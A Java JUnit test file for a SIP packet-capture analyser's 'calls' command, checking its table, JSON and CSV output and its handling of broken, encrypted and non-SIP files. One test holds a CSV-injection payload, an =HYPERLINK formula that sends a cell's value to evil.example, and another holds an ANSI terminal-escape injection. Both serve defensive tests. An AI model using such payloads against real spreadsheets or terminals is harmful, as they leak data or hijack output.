package org.ringback.command;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.util.Arrays;
import java.util.Locale;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The calls of files: on standard output what was found, on standard error one line for each file that is no use. */
class CallsOnTheCommandLineTest {

    private static final long START = 1_795_341_600_000_000L;

    @TempDir
    private Path folder;

    private String good = "";

    @BeforeEach
    void writeACapture() throws IOException {
        var capture = new PacketFile();
        capture.message(START, 1, 2, text("INVITE sip:200@x SIP/2.0", "1", "1 INVITE", "", ""))
                .message(START + 500_000, 1, 2, text("INVITE sip:200@x SIP/2.0", "1", "1 INVITE", "", ""))
                .message(START + 1_000_000, 2, 1, text("SIP/2.0 180 Ringing", "1", "1 INVITE", "b", ""))
                .message(START + 3_000_000, 2, 1, text("SIP/2.0 200 OK", "1", "1 INVITE", "b", ""))
                .message(START + 3_000_000, 1, 2, text("ACK sip:200@x SIP/2.0", "1", "1 ACK", "b", "-ack"))
                .message(START + 68_250_000, 1, 2, text("BYE sip:200@x SIP/2.0", "1", "2 BYE", "b", "-bye"))
                .message(START + 68_300_000, 2, 1, text("SIP/2.0 200 OK", "1", "2 BYE", "b", "-bye"))
                .message(START + 70_000_000, 1, 2, text("INVITE sip:200@x SIP/2.0", "2", "1 INVITE", "", ""))
                .message(START + 70_100_000, 2, 1, text("SIP/2.0 486 Busy Here", "2", "1 INVITE", "c", ""))
                .message(START + 70_100_000, 1, 2, text("ACK sip:200@x SIP/2.0", "2", "1 ACK", "c", ""));
        good = capture.writeTo(folder.resolve("good.pcap")).toString();
    }

    private static String text(String start, String call, String cseq, String toTag, String branch) {
        return start + "\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK" + call + branch
                + "\r\nFrom: <sip:100@example.com>;tag=a\r\nTo: <sip:200@example.com>"
                + (toTag.isEmpty() ? "" : ";tag=" + toTag)
                + "\r\nCall-ID: call-" + call + "\r\nCSeq: " + cseq + "\r\nContent-Length: 0\r\n\r\n";
    }

    private static Run calls(String... arguments) {
        return Run.withArguments(Locale.US, withCommand(arguments));
    }

    private static String[] withCommand(String... arguments) {
        String[] all = new String[arguments.length + 1];
        all[0] = "calls";
        System.arraycopy(arguments, 0, all, 1, arguments.length);
        return all;
    }

    private static JsonNode json(Run run) throws IOException {
        return JsonMapper.builder().build().readTree(run.out());
    }

    private String file(String name, String contents) throws IOException {
        return Files.writeString(folder.resolve(name), contents).toString();
    }

    @Test
    void showsATable() {
        var start = Instant.ofEpochSecond(START / 1_000_000).atZone(ZoneId.systemDefault());
        String clock = start.toLocalTime() + ":00.000";
        String later = start.plusSeconds(70).toLocalTime() + ".000";

        assertThat(calls(good))
                .isEqualTo(new Run(
                        0,
                        """
                        %s, time zone %s

                        Time          From  To   Method  How it ended     Code  Messages  Talk time
                        %s  100   200  INVITE  ended by caller  200          6       1:05
                        %s  100   200  INVITE  rejected         486          3          -

                        Shown: 2. SIP messages read: 10.
                        """.formatted(
                                        start.toLocalDate(),
                                        ZoneId.systemDefault().getId().replace("Etc/UTC", "UTC"),
                                        clock,
                                        later),
                        ""));
    }

    @Test
    void saysWhatTheFirstPartsAreThatCouldNotBeUsed() {
        assertThat(calls("src/test/resources/captures/gen-challenges-damaged.pcap")
                        .out())
                .contains("could not be used: 1.")
                .contains("gen-challenges-damaged.pcap, packet 42: it was cut when it was captured.");
    }

    @Test
    void showsItInRussian() {
        Run run = Run.withArguments(Run.RUSSIAN, "calls", good, "--problems");
        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).contains("От кого", "отклонён", "Показано: 1. Прочитано сообщений SIP: 10.");
    }

    @Test
    void writesJsonForScripts() throws IOException {
        Run run = calls(good, "--format", "json");
        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).endsWith("}\n").doesNotContain("\r");
        JsonNode json = json(run);
        assertThat(json.path("messages").asInt()).isEqualTo(10);
        assertThat(json.path("methods").toString()).isEqualTo("{\"ACK\":2,\"BYE\":1,\"INVITE\":3}");
        assertThat(json.path("statuses").toString()).isEqualTo("{\"180\":1,\"200\":2,\"486\":1}");
        assertThat(json.path("callIds").asInt()).isEqualTo(2);
        assertThat(json.path("unusable")).isEmpty();
        JsonNode call = json.path("calls").path(0);
        assertThat(call.path("callId").asText()).isEqualTo("call-1");
        assertThat(call.path("method").asText()).isEqualTo("INVITE");
        assertThat(Instant.from(OffsetDateTime.parse(call.path("start").asText()))
                                .toEpochMilli()
                        * 1000)
                .isEqualTo(START);
        assertThat(call.path("from").asText()).isEqualTo("100@example.com");
        assertThat(call.path("to").asText()).isEqualTo("200@example.com");
        assertThat(call.path("ending").asText()).isEqualTo("answered-ended-by-caller");
        assertThat(call.path("code").asInt()).isEqualTo(200);
        assertThat(call.path("firstSaidBy").asText()).isEqualTo("192.0.2.2:5060");
        assertThat(call.path("messages").asInt()).isEqualTo(6);
        assertThat(call.path("retransmissions").asInt()).isEqualTo(1);
        assertThat(call.path("postDialDelay").asDouble()).isEqualTo(1.0);
        assertThat(call.path("ringTime").asDouble()).isEqualTo(2.0);
        assertThat(call.path("talkTime").asDouble()).isEqualTo(65.25);
        assertThat(call.path("links").isArray()).isTrue();
        assertThat(json.path("calls").path(1).path("talkTime").isNull()).isTrue();
    }

    @Test
    void noCellOfTheCsvIsAFormula() {
        String csv = calls("src/test/resources/robust/csv.txt", "--format=csv").out();

        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2;\"\"Call\"\")\",\r\n");
    }

    @Test
    void writesCsvForSpreadsheets() {
        var lines = calls(good, "--format=csv", "--problems").out().split("\r\n");
        assertThat(lines).hasSize(2);
        assertThat(lines[0])
                .isEqualTo("start,from,to,method,ending,code,firstSaidBy,messages,retransmissions,postDialDelay,"
                        + "ringTime,talkTime,callId,media");
        assertThat(lines[1])
                .endsWith(",100@example.com,200@example.com,INVITE,rejected,486,192.0.2.2:5060,3,0,,,,call-2,");
    }

    @Test
    void correctsTheClockOfAFile() throws IOException {
        JsonNode now = json(calls(good, "--format", "json"));
        JsonNode moved = json(calls(good, "--format", "json", "--offset", good + "=-1.5s"));
        var start = OffsetDateTime.parse(now.path("calls").path(0).path("start").asText());
        assertThat(OffsetDateTime.parse(
                        moved.path("calls").path(0).path("start").asText()))
                .isEqualTo(start.minus(Duration.ofMillis(1500)));
    }

    @Test
    void usesTheOtherFilesAllTheSame() throws IOException {
        String empty = file("empty.pcap", "");
        String prose = file("prose.txt", "Dear diary,\nnobody called.\n");
        String missing = folder.resolve("missing.pcap").toString();

        Run run = calls(empty, good, prose, missing);
        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.out()).contains("Shown: 2.");
        assertThat(run.err().lines())
                .hasSize(3)
                .anyMatch(("ringback: " + empty + ": the file is empty.")::equals)
                .anyMatch(("ringback: " + prose + ": this is neither a capture nor a log with SIP messages.")::equals)
                .anyMatch(line -> line.startsWith("ringback: " + missing + ": there is no such file."));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "\n", "no capture", "\u0000\u0001\u0002"})
    void aFileThatIsNoUseIsOneLine(String contents) throws IOException {
        Run run = calls(file("bad", contents));
        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err().lines()).hasSize(1);
    }

    @Test
    void jsonNamesWhatCouldNotBeUsed() throws IOException {
        String empty = file("empty.pcap", "");
        JsonNode part = json(calls(empty, "--format", "json")).path("unusable").path(0);
        assertThat(part.path("file").asText()).isEqualTo(empty);
        assertThat(part.path("frame").asInt()).isZero();
        assertThat(part.path("reason").asText()).isEqualTo("empty-file");
        assertThat(part.has("detail")).isTrue();
    }

    @Test
    void aCaptureThatIsCutOffIsUsedUpToThere() throws IOException {
        byte[] whole = Files.readAllBytes(Path.of(good));
        Path cut = Files.write(folder.resolve("cut.pcap"), Arrays.copyOf(whole, whole.length - 10));

        Run run = calls(cut.toString());
        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).contains("SIP messages read: 9.");
        assertThat(run.err())
                .isEqualTo("ringback: " + cut + ": the file is cut off; everything before the cut is used.\n");
    }

    @Test
    void aCaptureWithoutSipIsNoError() throws IOException {
        String capture = new PacketFile()
                .message(START, 1, 2, "what is this")
                .writeTo(folder.resolve("other.pcap"))
                .toString();

        assertThat(calls(capture))
                .isEqualTo(new Run(
                        0,
                        "There are no SIP messages in it.\n\nShown: 0. SIP messages read: 0.\n",
                        "ringback: " + capture + ": there is no SIP in this capture. Packets looked at: 1.\n"));
        assertThat(Run.withArguments(Run.RUSSIAN, "calls", capture).err())
                .isEqualTo("ringback: " + capture + ": SIP в этом дампе нет. Просмотрено пакетов: 1.\n");
    }

    @Test
    void aLogWithoutLineEndsSaysHowToRecordItAgain() throws IOException {
        String log = file(
                "ngrep.txt", "U 192.0.2.1:5060 -> 192.0.2.2:5060\n  OPTIONS sip:a SIP/2.0..Via: SIP/2.0/UDP a....\n");
        assertThat(calls(log))
                .isEqualTo(new Run(
                        2,
                        "",
                        "ringback: " + log
                                + ": ngrep has printed dots where lines end, so the messages cannot be read."
                                + " Record again with: ngrep -W byline\n"));
    }

    @Test
    void anEncryptedCaptureSaysSo() throws IOException {
        var packets = new PacketFile();
        for (int client = 1; client <= 3; client++) {
            packets.segment(START, client, 9, 5061, "\u0016\u0003\u0001\u0000\u0005hello");
        }
        String capture = packets.writeTo(folder.resolve("tls.pcap")).toString();

        Run run = calls(capture);
        assertThat(run.exitCode()).isZero();
        assertThat(run.err().lines())
                .containsExactly(
                        "ringback: " + capture + ": there is no SIP in this capture. Packets looked at: 3.",
                        "ringback: " + capture
                                + ": TLS on ports of SIP, which cannot be read without the keys. Connections: 3. "
                                + "Take a SIP trace on the server itself, where it is decrypted.");
        assertThat(json(calls(capture, "--format", "json"))
                        .path("unusable")
                        .path(0)
                        .path("reason")
                        .asText())
                .isEqualTo("encrypted");
    }

    @Test
    void namesFromACaptureCannotPlayWithTheTerminal() throws IOException {
        String capture = new PacketFile()
                .message(
                        START,
                        1,
                        2,
                        text("OPTIONS sip:x SIP/2.0", "1", "1 OPTIONS", "", "").replace("100", "\u001b[31m"))
                .writeTo(folder.resolve("hostile.pcap"))
                .toString();

        assertThat(calls(capture).out()).contains("OPTIONS").doesNotContain("\u001b");
        assertThat(calls(capture, "--format", "csv").out()).doesNotContain("\u001b");
        assertThat(calls(capture, "--format", "json").out()).doesNotContain("\u001b");
    }
}
